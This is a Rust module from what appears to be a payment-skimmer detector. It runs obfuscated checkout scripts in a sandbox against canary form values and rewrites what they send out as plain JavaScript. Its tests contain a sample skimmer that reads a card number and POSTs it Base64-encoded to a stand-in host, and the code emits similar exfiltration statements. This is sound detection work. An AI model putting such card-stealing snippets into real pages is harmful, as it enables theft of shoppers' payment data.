@@ -1,0 +1,389 @@
+//! Running a whole obfuscated script against a stub checkout page, inside the sealed
+//! interpreter. The decoder plans of [`super::shapes`] find a decoder by its shape and run only
+//! it; obfuscators such as js-confuser (string concealing behind a flattened state machine,
+//! decoders built at run time, everything wrapped in `Function(…)`) leave no shape to find, and
+//! the static analysis sees only arithmetic. Such a script is run as a whole, after
+//! `emulate.js` has installed a page made of stubs: fields that answer canary values (a valid
+//! test card number for a card-number field), and senders that only record what they were
+//! given. The page's load events, timers and a customer's typing and clicking follow. Nothing
+//! leaves the sandbox: it still has no I/O, the same time, memory and output limits, and the
+//! records are plain strings.
+//!
+//! What was sent is searched for the canaries (through URL encoding, Base64, hex and
+//! reversal), and the flows found are written back as a few lines of plain JavaScript, a layer
+//! the ordinary analysis reads like any decoded code: `document.querySelector("#cc_number")
+//! .value` sent by `navigator.sendBeacon("https://…")`. The verdict therefore comes from the
+//! same rules, field words and host policy as everywhere else.
+
+use super::engine::{Limits, Outcome, Sandbox, SandboxError};
+use base64::Engine as _;
+use serde::Deserialize;
+use std::time::Duration;
+
+/// What the script did on the stub page.
+#[derive(Debug, Default, Deserialize)]
+pub struct Observed {
+    /// (selector or field key, canary value answered)
+    pub reads: Vec<(String, String)>,
+    /// (how, URL, data)
+    pub sends: Vec<(String, String, String)>,
+}
+
+/// The budgets of one run: shorter than a decoder plan's, as it only runs for scripts the rest
+/// of the analysis could not read.
+pub fn limits() -> Limits {
+    Limits {
+        time: Duration::from_millis(2_000),
+        time_per_run: Duration::from_millis(1_500),
+        ..Limits::default()
+    }
+}
+
+/// Whether a script looks machine-obfuscated enough to be run whole: numbers written in hex
+/// and `_0x` names, dense. Obfuscators write almost every number and name that way; libraries
+/// (the 21 benign payment-page libraries: at most 20 in 54 KB) do not.
+pub fn worth_running(src: &str) -> bool {
+    let b = src.as_bytes();
+    let mut n = 0usize;
+    for i in 0..b.len().saturating_sub(2) {
+        if b[i] == b'0' && (b[i + 1] == b'x' || b[i + 1] == b'X') && b[i + 2].is_ascii_hexdigit() {
+            let before = if i > 0 { b[i - 1] } else { b' ' };
+            if !before.is_ascii_alphanumeric() && before != b'$' {
+                n += 1;
+            }
+        }
+    }
+    n >= 24 && n * 150 >= src.len()
+}
+
+/// Run `src` on the stub page and return what it read and sent.
+pub fn observe(src: &str, limits: Limits) -> Result<Observed, SandboxError> {
+    let mut sandbox = Sandbox::new(limits)?;
+    let own = serde_json::to_string(src).unwrap_or_else(|_| "\"\"".into());
+    sandbox.run(&format!("{}({own});", include_str!("self_document.js")))?;
+    if let Outcome::Threw = sandbox.run(&format!("{}();", include_str!("emulate.js")))? {
+        return Err(SandboxError::Start("the stub page failed".into()));
+    }
+    // The script's own exceptions end its top level, as in a browser; what it set up before
+    // (listeners, timers) still runs.
+    let mut steps = || -> Result<(), SandboxError> {
+        sandbox.run(src)?;
+        sandbox.drain_jobs(10_000)?;
+        sandbox.run("__skimscan_page.act()")?;
+        sandbox.drain_jobs(10_000)?;
+        Ok(())
+    };
+    let ended = steps();
+    // Records made before a budget ran out still count.
+    let result = match sandbox.run("__skimscan_page.result()") {
+        Ok(Outcome::Done(Some(json))) => serde_json::from_str(&json).unwrap_or_default(),
+        _ => Observed::default(),
+    };
+    match ended {
+        Err(e) if result.sends.is_empty() => Err(e),
+        _ => Ok(result),
+    }
+}
+
+/// The flows of `observed` as plain JavaScript, or None when nothing was sent.
+pub fn layer(observed: &Observed) -> Option<String> {
+    let mut lines = Vec::new();
+    let mut seen = std::collections::BTreeSet::new();
+    for (how, url, data) in &observed.sends {
+        if url.trim().is_empty() || lines.len() >= 24 {
+            continue;
+        }
+        let fields = fields_in(&format!("{url}\n{data}"), &observed.reads);
+        let line = statement(how, url, &fields);
+        if let Some(line) = line
+            && seen.insert(line.clone())
+        {
+            lines.push(line);
+        }
+    }
+    if lines.is_empty() {
+        return None;
+    }
+    Some(format!(
+        "// skimscan: what the script did when it ran in the sealed interpreter on a stub page\n{}\n",
+        lines.join("\n")
+    ))
+}
+
+/// One send as a statement: the fields whose canaries it carried, sent the same way.
+fn statement(how: &str, url: &str, fields: &[String]) -> Option<String> {
+    let q = |s: &str| serde_json::to_string(s).unwrap_or_default();
+    let base = if fields.is_empty() {
+        url.to_string()
+    } else {
+        // The data is the fields themselves; the recorded URL carried their canaries.
+        url.split(['?', '#']).next().unwrap_or(url).to_string()
+    };
+    let data = if fields.is_empty() {
+        None
+    } else {
+        Some(format!(
+            "[{}].join(\"|\")",
+            fields
+                .iter()
+                .map(|k| format!("document.querySelector({}).value", q(k)))
+                .collect::<Vec<_>>()
+                .join(", ")
+        ))
+    };
+    let u = q(&base);
+    let s = match (how, data) {
+        ("xhr", Some(d)) => {
+            format!(
+                "(function () {{ var x = new XMLHttpRequest(); x.open(\"POST\", {u}); x.send({d}); }})();"
+            )
+        }
+        ("beacon", Some(d)) => format!("navigator.sendBeacon({u}, {d});"),
+        ("websocket", Some(d)) => format!("new WebSocket({u}).send({d});"),
+        ("webrtc", Some(d)) => format!(
+            "new RTCPeerConnection({{ iceServers: [{{ urls: {u} }}] }}).createDataChannel(\"c\").send({d});"
+        ),
+        ("navigate", Some(d)) => format!("window.open({u} + \"?d=\" + encodeURIComponent({d}));"),
+        ("fetch" | "form" | "worker-message", Some(d)) => {
+            format!("fetch({u}, {{ method: \"POST\", body: {d} }});")
+        }
+        (_, Some(d)) => match data_labels(&base) {
+            // Data carried in the host's labels (`4111….dns.example`): the same shape.
+            Some((scheme, rest)) => format!(
+                "new Image().src = {} + encodeURIComponent({d}) + {};",
+                q(&scheme),
+                q(&rest)
+            ),
+            None => format!("new Image().src = {u} + \"?d=\" + encodeURIComponent({d});"),
+        },
+        ("xhr" | "fetch" | "beacon" | "form", None) => format!("fetch({u});"),
+        ("websocket", None) => format!("new WebSocket({u});"),
+        ("worker" | "eventsource" | "worker-message" | "webrtc" | "navigate", None) => {
+            return None;
+        }
+        (_, None) => format!("new Image().src = {u};"),
+    };
+    Some(s)
+}
+
+/// A URL whose host begins with long labels (encoded data): its scheme and `//`, and the
+/// rest after those labels (`.dns.example/p`).
+fn data_labels(url: &str) -> Option<(String, String)> {
+    let (scheme, after) = url.split_once("//")?;
+    let end = after.find(['/', '?', '#']).unwrap_or(after.len());
+    let (host, path) = after.split_at(end);
+    let labels: Vec<&str> = host.split('.').filter(|l| !l.is_empty()).collect();
+    let last_long = labels.iter().rposition(|l| l.len() >= 20)?;
+    if labels.len() - last_long < 3 {
+        return None;
+    }
+    let scheme = if scheme.is_empty() { "https:" } else { scheme };
+    Some((
+        format!("{scheme}//"),
+        format!(".{}{path}", labels[last_long + 1..].join(".")),
+    ))
+}
+
+/// The fields read whose canary `sent` carries, in any of the encodings a skimmer uses.
+fn fields_in(sent: &str, reads: &[(String, String)]) -> Vec<String> {
+    let views = views(sent);
+    let has = |needle: &str| views.iter().any(|v| v.contains(needle));
+    let card = has(PAN);
+    let mut out: Vec<String> = Vec::new();
+    for (key, value) in reads {
+        let found = if value == PAN {
+            card
+        } else if value.len() >= 8 {
+            has(value)
+        } else {
+            // Short canaries (a security code, a month) only beside the card number, and as
+            // a token of their own.
+            card && views.iter().any(|v| has_token(v, value))
+        };
+        if found && !out.contains(key) {
+            out.push(key.clone());
+        }
+    }
+    out
+}
+
+/// The canary card number `emulate.js` answers for card-number fields.
+const PAN: &str = "4111111111111111";
+
+fn has_token(hay: &str, token: &str) -> bool {
+    hay.match_indices(token).any(|(i, _)| {
+        let before = hay[..i].chars().next_back();
+        let after = hay[i + token.len()..].chars().next();
+        !before.is_some_and(|c| c.is_ascii_digit()) && !after.is_some_and(|c| c.is_ascii_digit())
+    })
+}
+
+/// `s` and what it decodes to: percent-decoding, Base64 and hex runs, reversal; three levels.
+fn views(s: &str) -> Vec<String> {
+    const MAX_VIEWS: usize = 64;
+    const MAX_BYTES: usize = 1 << 20;
+    let mut out: Vec<String> = vec![s.to_string()];
+    let mut level = vec![s.to_string()];
+    let mut total = s.len();
+    for _ in 0..3 {
+        let mut next = Vec::new();
+        for v in &level {
+            for d in decodings(v) {
+                if out.len() >= MAX_VIEWS || total + d.len() > MAX_BYTES {
+                    return out;
+                }
+                if !out.contains(&d) {
+                    total += d.len();
+                    out.push(d.clone());
+                    next.push(d);
+                }
+            }
+        }
+        level = next;
+    }
+    out
+}
+
+fn decodings(s: &str) -> Vec<String> {
+    let mut out = Vec::new();
+    if s.contains('%') || s.contains('+') {
+        let plus = s.replace('+', " ");
+        let d = percent_encoding::percent_decode_str(&plus).decode_utf8_lossy();
+        if d != s {
+            out.push(d.into_owned());
+        }
+    }
+    out.push(s.chars().rev().collect());
+    // Padding splits runs too: `d=TkRF…==` is the key `d` and the value.
+    let is_b64 = |c: char| c.is_ascii_alphanumeric() || matches!(c, '+' | '/' | '-' | '_');
+    for run in s.split(|c: char| !is_b64(c)).filter(|r| r.len() >= 12) {
+        let t = run;
+        for engine in [
+            base64::engine::general_purpose::STANDARD_NO_PAD,
+            base64::engine::general_purpose::URL_SAFE_NO_PAD,
+        ] {
+            if let Ok(bytes) = engine.decode(t)
+                && let Some(text) = printable(&bytes)
+            {
+                out.push(text);
+                break;
+            }
+        }
+    }
+    for run in s.split(|c: char| !c.is_ascii_hexdigit()) {
+        if run.len() >= 16 && run.len() % 2 == 0 {
+            let bytes: Vec<u8> = (0..run.len())
+                .step_by(2)
+                .filter_map(|i| u8::from_str_radix(&run[i..i + 2], 16).ok())
+                .collect();
+            if let Some(text) = printable(&bytes) {
+                out.push(text);
+            }
+        }
+    }
+    out
+}
+
+/// Bytes as text when they mostly are (a decoding that produced noise is no view).
+fn printable(bytes: &[u8]) -> Option<String> {
+    let text = String::from_utf8_lossy(bytes);
+    let good = text
+        .chars()
+        .filter(|c| !c.is_control() || c.is_whitespace())
+        .filter(|c| *c != '\u{fffd}')
+        .count();
+    (good * 10 >= text.chars().count() * 9).then(|| text.into_owned())
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn reads() -> Vec<(String, String)> {
+        vec![
+            ("#cc_number".into(), PAN.into()),
+            ("#cc_cid".into(), "737".into()),
+            ("#billing_email".into(), "jane.canary@mail.example".into()),
+        ]
+    }
+
+    #[test]
+    fn canaries_are_found_through_encodings() {
+        let b64 = base64::engine::general_purpose::STANDARD.encode(format!("{PAN};737"));
+        let sent = format!(
+            "d={}",
+            percent_encoding::utf8_percent_encode(&b64, percent_encoding::NON_ALPHANUMERIC)
+        );
+        assert_eq!(fields_in(&sent, &reads()), vec!["#cc_number", "#cc_cid"]);
+        let reversed: String = format!("x={PAN}").chars().rev().collect();
+        assert_eq!(fields_in(&reversed, &reads()), vec!["#cc_number"]);
+        let hex: String = PAN.bytes().map(|b| format!("{b:02x}")).collect();
+        assert_eq!(fields_in(&hex, &reads()), vec!["#cc_number"]);
+        // A security code alone, or inside a longer number, is no match.
+        assert!(fields_in("n=7370", &reads()).is_empty());
+        assert!(fields_in("a=737", &reads()).is_empty());
+    }
+
+    #[test]
+    fn a_send_becomes_a_plain_statement() {
+        let obs = Observed {
+            reads: reads(),
+            sends: vec![
+                (
+                    "beacon".into(),
+                    "https://c.example/k?x=1".into(),
+                    format!("n={PAN}"),
+                ),
+                (
+                    "img".into(),
+                    "https://img.example/p.gif".into(),
+                    String::new(),
+                ),
+                ("worker".into(), "blob:x".into(), String::new()),
+            ],
+        };
+        let code = layer(&obs).unwrap();
+        assert!(code.contains(
+            "navigator.sendBeacon(\"https://c.example/k\", [document.querySelector(\"#cc_number\").value].join(\"|\"));"
+        ));
+        assert!(code.contains("new Image().src = \"https://img.example/p.gif\";"));
+        assert!(!code.contains("blob:"));
+        assert!(layer(&Observed::default()).is_none());
+    }
+
+    #[test]
+    fn only_dense_hex_counts_as_obfuscated() {
+        let library =
+            "var a = 0x10;\n".to_string() + &"function f(a) { return a + 1; }\n".repeat(400);
+        assert!(!worth_running(&library));
+        let obfuscated = "var _0x1=[0x1f,0x2a,0x3b];".repeat(40);
+        assert!(worth_running(&obfuscated));
+    }
+
+    #[test]
+    fn the_stub_page_records_a_flow_and_sends_nothing() {
+        let src = r#"
+            document.querySelector('#payment-form').addEventListener('submit', function () {
+              var n = document.getElementById('card-number').value;
+              var x = new XMLHttpRequest();
+              x.open('POST', 'https://stats.example/c');
+              x.send('d=' + btoa(n));
+            });
+        "#;
+        let obs = observe(src, limits()).unwrap();
+        assert_eq!(
+            obs.reads,
+            vec![("#card-number".to_string(), PAN.to_string())]
+        );
+        assert_eq!(obs.sends.len(), 1);
+        let code = layer(&obs).unwrap();
+        assert!(
+            code.contains("x.open(\"POST\", \"https://stats.example/c\")"),
+            "{code}"
+        );
+        assert!(
+            code.contains("document.querySelector(\"#card-number\").value"),
+            "{code}"
+        );
+    }
+}
